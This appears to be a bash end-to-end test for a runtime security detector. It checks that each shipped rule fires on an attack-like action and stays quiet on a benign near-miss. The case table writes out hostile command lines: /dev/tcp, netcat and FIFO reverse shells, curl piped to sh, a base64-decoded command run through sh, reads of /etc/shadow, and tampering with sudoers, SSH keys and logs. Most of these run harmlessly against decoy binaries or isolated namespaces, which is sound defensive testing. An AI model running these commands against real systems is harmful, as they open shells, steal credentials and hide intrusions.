#!/bin/bash
# test_rules.sh - the shipped rules on the running kernel: for each rule below what must fire and what is
# near and must not, both done for real; then a storm of one alert, and rules that change under load.
# What would touch this machine is done in a mount or network namespace of its own.
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"

B=$T/bin
mkdir -p "$B" "$T/cg"

# A program of another name that does nothing.
as() {
	[ -e "$B/$1" ] || cp /bin/true "$B/$1"
	(exec -a "$1" "$B/$1" "${@:2}")
}

# Runs $2 where the folder $1 is empty and nobody else's.
in_empty() { unshare -m bash -c "mount -t tmpfs none '$1' && cd / && $2"; }

# Where there is a network with one address, and nobody on it.
alone() {
	echo "$1" >"$T/alone.sh" # not on a command line, which has a rule of its own
	unshare -n bash -c "ip link set lo up && ip addr add 198.51.100.1/32 dev lo && . '$T/alone.sh'"
}

# RULE|what must fire|what must not; without those that this kernel has no file for.
cases() {
	local absent='^$'

	[ -e /proc/kcore ] || absent="$absent|^kernel-core-read"
	[ -e /proc/sys/kernel/sysrq ] || absent="$absent|^sysrq-trigger"
	grep -Ev "$absent" <<-'END'
		reverse-shell-dev-tcp|as bash -c 'x >& /dev/tcp/203.0.113.9/1'|as bash -c 'ls /dev/tty'
		reverse-shell-netcat|as nc 203.0.113.9 1 -e /bin/sh|as nc -zv localhost 22
		reverse-shell-fifo|as sh -c 'mkfifo f;cat f|sh -i|nc h 1 >f'|as mkfifo f
		reverse-shell-interpreter|as python3 -c "import socket,pty;pty.spawn('/bin/sh')"|as python3 -m http.server
		hidden-executable|as .x|as x
		download-piped-to-shell|as bash -c 'curl -s http://h/x | sh'|as bash -c 'curl -s http://h/x | jq .'
		encoded-command|as sh -c 'echo aWQK | base64 -d | sh'|as sh -c 'base64 -d a > b'
		shell-from-web-server|"$B/nginx" -c '"$B/sh" x; :'|"$B/nginx" -c '"$B/x" x; :'
		crontab-of-unusual-origin|as crontab -|as crontab -l
		kernel-module-loaded|as insmod /tmp/r.ko|as lsmod
		masquerade-kernel-thread|(exec -a '[kworker/0:1]' "$B/x")|(exec -a 'worker' "$B/x")
		immutable-flag-changed|as chattr +i f|as chattr +C f
		security-tool-stopped|as systemctl stop auditd.service|as systemctl status auditd.service
		crypto-miner|as a -o stratum+tcp://203.0.113.9:3333|as a -o tcp://203.0.113.9:3333
		port-scan-tool|as nmap 192.0.2.0/24|as nmcli d
		remote-command-tool|as chisel client 203.0.113.9|as chsh
		capability-to-file|as setcap cap_setuid+ep /x|as setcap cap_net_bind_service+ep /x
		nsenter-into-init|as nsenter -t 1 -m sh|as nsenter -t 100 -m sh
		ld-preload|as env LD_PRELOAD=/tmp/x.so ls|as env LD_PRELOAD=/usr/lib/x.so ls
		sudoers-changed|in_empty /etc 'mkdir /etc/sudoers.d && : > /etc/sudoers.d/x'|in_empty /etc ': > /etc/sudoers.x'
		cron-changed|in_empty /etc 'mkdir /etc/cron.d && : > /etc/cron.d/x'|in_empty /etc ': > /etc/cron.x'
		rc-script-changed|in_empty /etc ': > /etc/rc.local'|in_empty /etc ': > /etc/rc.x'
		systemd-unit-changed|in_empty /etc 'mkdir -p /etc/systemd/system && : > /etc/systemd/system/x.service'|in_empty /etc ': > /etc/x.service'
		dynamic-linker-hijack|in_empty /etc ': > /etc/ld.so.preload'|in_empty /etc ': > /etc/ld.so.x'
		linker-configuration-changed|in_empty /etc 'mkdir /etc/ld.so.conf.d && : > /etc/ld.so.conf.d/x.conf'|in_empty /etc ': > /etc/ld.x'
		account-file-changed|in_empty /etc ': > /etc/passwd; echo >> /etc/passwd'|in_empty /etc ': > /etc/passwd.x; echo >> /etc/passwd.x'
		ssh-authorized-keys-changed|in_empty /root 'mkdir /root/.ssh && : > /root/.ssh/authorized_keys'|in_empty /root ': > /root/keys'
		shell-startup-file-changed|in_empty /root ': > /root/.bashrc'|in_empty /root ': > /root/.x'
		private-key-read|in_empty /root 'mkdir /root/.ssh && : > /root/.ssh/id_x && cat /root/.ssh/id_x'|in_empty /root 'mkdir /root/.ssh && : > /root/.ssh/id_x.pub && cat /root/.ssh/id_x.pub'
		shell-history-removed|in_empty /root ': > /root/.bash_history; rm /root/.bash_history'|in_empty /root ': > /root/.x; rm /root/.x'
		log-file-deleted|in_empty /var/log ': > /var/log/auth.log; rm /var/log/auth.log'|in_empty /var/log ': > /var/log/x.log; rm /var/log/x.log'
		shadow-file-read|cat /etc/shadow|cat /etc/passwd
		kernel-core-read|head -c 1 /proc/kcore|head -c 1 /proc/version
		aslr-inspected|cat /proc/sys/kernel/randomize_va_space|cat /proc/sys/kernel/pid_max
		setuid-bit-set|chmod 4755 "$B/x"|chmod 755 "$B/x"
		executable-deletes-itself|cp /bin/rm "$B/gone" && "$B/gone" "$B/gone"|touch "$B/f" && rm "$B/f"
		proc-mem-write|(exec 3<>/proc/self/mem)|(exec 3</proc/self/mem)
		core-pattern-changed|(exec 3<>/proc/sys/kernel/core_pattern)|(exec 3</proc/sys/kernel/core_pattern)
		sysrq-trigger|(exec 3<>/proc/sys/kernel/sysrq)|(exec 3</proc/sys/kernel/sysrq)
		cgroup-release-agent|: > "$T/cg/release_agent"|cat "$T/cg/release_agent"
		cgroup-notify-on-release|: > "$T/cg/notify_on_release"|cat "$T/cg/notify_on_release"
		shell-connects|alone ': < /dev/tcp/198.51.100.1/9'|alone ': < /dev/tcp/127.0.0.1/9'
		stdio-over-socket|alone '(: < /dev/tcp/198.51.100.1/9; exec "$B/sh")'|alone '(: < /dev/tcp/127.0.0.1/9; exec "$B/sh")'
	END
}

# Does the $1-th thing of all cases, below a process of its own whose pid is kept in $2.
act() {
	local rule fires near

	while IFS='|' read -r rule rest; do
		case $rule in # the texts between hold the bar, too
		reverse-shell-fifo) fires="as sh -c 'mkfifo f;cat f|sh -i|nc h 1 >f'" near='as mkfifo f' ;;
		download-piped-to-shell)
			fires="as bash -c 'curl -s http://h/x | sh'" near="as bash -c 'curl -s http://h/x | jq .'"
			;;
		encoded-command) fires="as sh -c 'echo aWQK | base64 -d | sh'" near="as sh -c 'base64 -d a > b'" ;;
		*) fires=${rest%%|*} near=${rest#*|} ;;
		esac
		if [ "$1" = fires ]; then eval "$fires"; else eval "$near"; fi
	done < <(cases) >/dev/null 2>&1
}

# Rules of the alerts whose process, or one above it, has the pid $1.
rules_of() {
	ctl alerts get --limit 10000 -o ndjson |
		jq -r --argjson pid "$1" \
			'select(([.process.pid] + [.ancestry[].pid]) | any(. == $pid)) | .rule.id' | sort -u
}

given_shipped_rules() {
	local pid wanted missing

	expect "the shipped rules are in force from the first start on" \
		"$(ctl rules apply rules -o ndjson | jq -s '[.[] | select(.change != "unchanged")] | length')" 0
	expect "all of them can run" "$(ctl rules get -o ndjson | jq -s '[.[] | select(.status != "ok")] | length')" 0
	expect "their own tests pass" "$(ctl rules test rules -o ndjson 2>/dev/null | jq -s '[.[] | select(.passed | not)] | length')" 0
	cp /bin/true "$B/sh"
	cp /bin/true "$B/x"
	cp /bin/bash "$B/nginx"
	export B T
	export -f as in_empty alone
	act near &
	pid=$!
	wait "$pid"
	touch "$T/marker-near"
	query_until 1 "file where file.path == \"$T/marker-near\"" >/dev/null
	near_pid=$pid
	act fires &
	pid=$!
	wait "$pid"
	# sequences wait for what comes after
	# shellcheck disable=SC2317 # called by until_true
	all_fired() {
		touch "$T/more"
		[ -z "$(comm -23 <(cases | cut -d'|' -f1 | sort) <( (rules_of "$pid"; sequences) | sort -u))" ]
	}
	until_true 30 all_fired
	wanted=$(cases | cut -d'|' -f1 | sort)
	missing=$(comm -23 <(echo "$wanted") <( (rules_of "$pid"; sequences) | sort -u))
	for rule in $wanted; do
		if grep -qx "$rule" <<<"$missing"; then fail "$rule fires" "no alert"; else ok "$rule fires"; fi
	done
	for rule in $wanted; do
		if rules_of "$near_pid" | grep -qx "$rule"; then fail "$rule: near" "it fired"; else ok "$rule: near stays quiet"; fi
	done
}

# An alert of a sequence knows only the parent of its last process; its program is ours alone.
sequences() {
	ctl alerts get --rule stdio-over-socket -o ndjson |
		jq -r --arg exe "$B/sh" 'select(.process.executable == $exe) | .rule.id' | sort -u
}

hits_of() { ctl rules get "$1" -o json | jq ".rules[0].hits // .hits"; }

# A watched file is opened flat out: one alert, every stored open counted, and what is not stored (a fast
# machine makes more than one workload may tell) is told.
given_a_storm() {
	local n=20000 made stored lost query

	[ "$SCALE" != full ] || n=200000
	touch "$T/watched"
	query="file where process.name == \"workload\" and file.path == \"$T/watched\""
	printf 'id: storm\nname: storm\nseverity: low\nquery: file where file.path == "%s"\n' "$T/watched" >"$T/storm.yml"
	expect "storm: the rule is applied" "$(ctl rules apply "$T/storm.yml" -o ndjson | jq -r .change)" created
	made=$("$TOOLS/workload" -n "$n" "$T/watched" | jq .made)
	as chisel storm # another rule's alert, behind it
	lost() {
		query --all 'rtsec where event.action in ("gap", "throttle")' 2>/dev/null |
			jq -s 'map(.rtsec.gap.count // .rtsec.throttle.count) | add // 0'
	}
	alerted() {
		ctl alerts get --rule storm -o ndjson | jq -s 'map(select(.process.name == "workload") | .count) | add'
	}
	# shellcheck disable=SC2317 # called by until_true
	counted() {
		stored=$(count "$query")
		[ $((stored + $(lost))) -ge "$made" ] && [ "$(alerted)" = "$stored" ]
	}
	until_true 30 counted
	stored=$(count "$query")
	expect "storm: every stored open is counted" "$(alerted)" "$stored"
	if [ "$stored" -le "$made" ] && [ $((stored + $(lost))) -ge "$made" ]; then
		ok "storm: what was made is stored or told (made $made, stored $stored)"
	else
		fail "storm: what was made is stored or told" "made $made, stored $stored, told $(lost)"
	fi
	expect "storm: in one alert" \
		"$(ctl alerts get --rule storm -o ndjson | jq -s 'map(select(.process.name == "workload")) | length')" 1
	# shellcheck disable=SC2317 # called by until_true
	other() { ctl alerts get --rule remote-command-tool -o ndjson | jq -se 'any(.process.args[1] == "storm")' >/dev/null; }
	until_true 30 other
	if other; then ok "storm: another rule's alert comes"; else fail "storm: another rule's alert comes" none; fi
}

# Rules are changed again and again while a watched file is opened: n of n.
given_rules_that_change() {
	local n=2000 made i

	[ "$SCALE" != full ] || n=10000
	touch "$T/steady"
	printf 'id: steady\nname: steady\nquery: file where file.path == "%s"\n' "$T/steady" >"$T/steady.yml"
	ctl rules apply "$T/steady.yml" >/dev/null
	"$TOOLS/workload" -r 1000 -n "$n" "$T/steady" >"$T/made.json" &
	for i in 1 2 3 4 5 6 7 8; do
		printf 'id: other\nname: other\nquery: process.name == "n%s"\n' "$i" >"$T/other.yml"
		ctl rules apply "$T/other.yml" >/dev/null
	done
	wait $!
	made=$(jq .made "$T/made.json")
	# shellcheck disable=SC2317 # called by until_true
	counted() { [ "$(ctl alerts get --rule steady -o ndjson | jq -s 'map(select(.process.name == "workload") | .count) | add')" = "$made" ]; }
	until_true 30 counted
	expect "rules change: $made of $made" \
		"$(ctl alerts get --rule steady -o ndjson | jq -s 'map(select(.process.name == "workload") | .count) | add')" "$made"
	expect "rules change: who did it is kept" "$(ctl rules history other -o ndjson | jq -r .author | sort -u)" dev
	expect "rules change: revisions are kept" "$(ctl rules history other -o ndjson | wc -l)" 8
}

given_an_alert() {
	local id

	id=$(ctl alerts get --rule remote-command-tool -o ndjson | jq -s 'map(select(.process.args[1] == "storm"))[0].id')
	expect_json "alert: whole" "$(ctl alerts get "$id" -o ndjson)" '(.events | length) >= 1 and (.ancestry | length) >= 1 and .gaps != null'
	expect "alert: acknowledged" "$(ctl alerts ack "$id" --owner me -o ndjson | jq -r '.status + " " + .owner')" "acknowledged me"
	expect "alert: noted" "$(ctl alerts note "$id" --note looked -o ndjson | jq -r '.notes[-1].note')" looked
	expect "alert: excepted" "$(ctl alerts except "$id" --owner me --expires 2100-01-01 -o ndjson | jq -r '.exceptions[0].owner')" me
	expect "alert: closed" "$(ctl alerts close "$id" -o ndjson | jq -r .status)" closed
}

start_stack
given_shipped_rules
given_a_storm
given_rules_that_change
given_an_alert
finish
